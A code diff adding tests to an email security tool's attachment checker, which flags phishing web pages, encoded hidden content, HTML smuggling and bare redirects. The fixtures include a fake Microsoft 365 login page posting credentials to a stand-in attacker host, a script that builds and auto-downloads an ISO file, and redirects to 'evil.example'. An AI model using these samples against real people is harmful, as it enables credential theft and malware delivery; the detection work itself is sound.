@@ -3,7 +3,7 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { test } from 'node:test';
-import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, inspectAttachments, nameFindings, programKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
+import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, inspectAttachments, isWebPage, nameFindings, phishPageSign, programKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
 import { attachmentsCheck, attachmentsOptionsSchema, type AttachmentsOptions } from '../../../src/pipeline/checks/attachments.ts';
 import { parseMessage } from '../../../src/pipeline/index.ts';
 import { parseReply } from '../../../src/pipeline/verdict.ts';
@@ -73,6 +73,52 @@ test('inspectAttachments: names inside ZIP archives, nested archives, encryption
   // a harmless archive, an Office document (a ZIP too), and a damaged archive say nothing
   assert.deepEqual(await summary([{ filename: 'photos.zip', content: zipArchive([['a.jpg', 'jpeg'], ['b.png', 'png']]) }]), []);
   assert.deepEqual(await summary([{ filename: 'broken.zip', content: plain.subarray(0, plain.length - 30) }]), []);
+});
+
+// A credential phish as sent in 2024–2026: a small page, the form posting to the thief's server.
+const LOGIN_PAGE = `<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
+<form method="post" action="https://o365-verify.example/next.php"><p>Your session expired. Sign in to view the remittance.</p>
+<input type="email" name="login" value="carol@example.com"><input name=passwd type = 'password'><button>Sign in</button></form></body></html>`;
+const encoded = (html: string) => Buffer.from(html.repeat(8)).toString('base64');
+
+test('phishPageSign: a password field, decoded hidden content, HTML smuggling, a redirect from an empty page', () => {
+  const sign = (html: string, mht = false) => phishPageSign(Buffer.from(html), mht);
+  assert.equal(sign(LOGIN_PAGE), 'a web page that asks for a password');
+  assert.equal(sign(`<html><script>document.write(atob("${encoded(LOGIN_PAGE)}"))</script></html>`), 'a web page that decodes hidden content', 'the form hidden in base64');
+  assert.equal(sign(`<html><script>document.write(atob("${encoded('<p>Remittance advice for your account</p>')}"))</script></html>`), 'a web page that decodes hidden content');
+  assert.equal(sign(`<html><script>document.write(unescape('${'%3C%70%3E'.repeat(60)}'))</script></html>`), 'a web page that decodes hidden content');
+  assert.equal(sign('<html><body><script>const b = new Blob([bytes], {type: "application/octet-stream"}); const a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "Invoice.iso"; a.click();</script></body></html>'),
+    'a web page that builds a file to save (HTML smuggling)');
+  assert.equal(sign('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/?u=carol@example.com"></head><body>Loading…</body></html>'), 'a web page that sends the reader on to a web site');
+  assert.equal(sign('<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = "https://evil.example/#carol@example.com"</script></svg>'), 'a web page that sends the reader on to a web site');
+  // an .mht is MIME with quoted-printable HTML
+  assert.equal(sign('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<input type=3D"pass=\r\nword">\r\n--b--\r\n', true), 'a web page that asks for a password');
+});
+
+test('phishPageSign: honest pages say nothing: an HTML invoice, a search form, a short atob, a linked redirect page with text', () => {
+  const sign = (html: string) => phishPageSign(Buffer.from(html));
+  assert.equal(sign('<html><body><h1>Invoice 2026-114</h1><table><tr><td>Consulting</td><td>1,200.00 EUR</td></tr></table></body></html>'), null);
+  assert.equal(sign('<html><body><form action="https://www.example.org/search"><input type="text" name="q"><input type="submit"></form></body></html>'), null);
+  assert.equal(sign('<html><script>const cfg = JSON.parse(atob("eyJhIjoxfQ==")); const d = new Blob([x]);</script></html>'), null);
+  const article = `<html><head><script>if (old) window.location.href = "https://example.org/new"</script></head><body>${'<p>A long article that people read and forward to colleagues. </p>'.repeat(10)}</body></html>`;
+  assert.equal(sign(article), null, 'a page with text to read is not a bare redirect');
+});
+
+test('inspectAttachments: attached web pages by name, Content-Type or first bytes, also inside ZIP archives', async () => {
+  assert.equal(isWebPage({ filename: 'Remittance.HTM', content: Buffer.from('x') }), true);
+  assert.equal(isWebPage({ filename: 'scan', mimeType: 'image/svg+xml', content: Buffer.from('x') }), true);
+  assert.equal(isWebPage({ filename: 'invoice.pdf', content: Buffer.from('\ufeff  <!DOCTYPE html><html>') }), true);
+  assert.equal(isWebPage({ filename: 'notes.txt', content: Buffer.from('password: <input type=password>') }), false);
+  assert.deepEqual(await summary([{ filename: 'Remittance.html', content: Buffer.from(LOGIN_PAGE) }]), [
+    'risky: Remittance.html (.html)',
+    'phish-page: Remittance.html (a web page that asks for a password)',
+  ]);
+  assert.deepEqual(await summary([{ filename: 'Payment-Advice', mimeType: 'application/octet-stream', content: Buffer.from(LOGIN_PAGE) }]), ['phish-page: Payment-Advice (a web page that asks for a password)']);
+  assert.deepEqual(await summary([{ filename: 'fax.zip', content: zipArchive([['Fax_0042.shtml', LOGIN_PAGE]]) }]), [
+    'risky: fax.zip > Fax_0042.shtml (.shtml)',
+    'phish-page: fax.zip > Fax_0042.shtml (a web page that asks for a password)',
+  ]);
+  assert.deepEqual(await summary([{ filename: 'report.html', content: Buffer.from('<html><body><p>Quarterly figures</p></body></html>') }]), ['risky: report.html (.html)']);
 });
 
 test('inspectAttachments: limits: depth, the unpack budget, archives off', async () => {
